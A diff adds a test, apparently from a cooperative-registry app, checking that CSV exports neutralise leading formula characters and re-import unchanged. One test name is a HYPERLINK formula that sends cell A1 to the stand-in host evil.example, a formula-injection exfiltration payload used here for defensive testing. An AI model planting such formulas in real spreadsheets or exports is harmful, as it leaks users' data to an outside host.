@@ -272,3 +272,21 @@ def test_an_export_re_imports_unchanged(client, coops):
     assert report.errors == []
     assert (report.created, report.updated, report.unchanged) == (0, 0, 3)
     assert list(Cooperative.objects.order_by("pk").values()) == before
+
+
+def test_formulas_are_neutralised_and_an_export_reimports_unchanged(client):
+    from registry.importer import cooperatives_import
+
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "-minus", "@at", "+plus"]
+    for name in names:
+        CooperativeFactory(name=name, main_business="=1+1")
+    response = export_csv_response(Cooperative.objects.order_by("pk"), filename="x.csv")
+    body = content(response)
+    rows = csv_rows(export_csv_response(Cooperative.objects.order_by("pk"), filename="x.csv"))
+    assert [row["조합명"] for row in rows] == ["'" + name for name in names]
+    assert {row["주요사업"] for row in rows} == {"'=1+1"}
+
+    before = list(Cooperative.objects.order_by("pk").values())
+    report = cooperatives_import(file=body, filename="export.csv")
+    assert (report.unchanged, report.created, report.updated, report.rejected) == (4, 0, 0, 0)
+    assert list(Cooperative.objects.order_by("pk").values()) == before
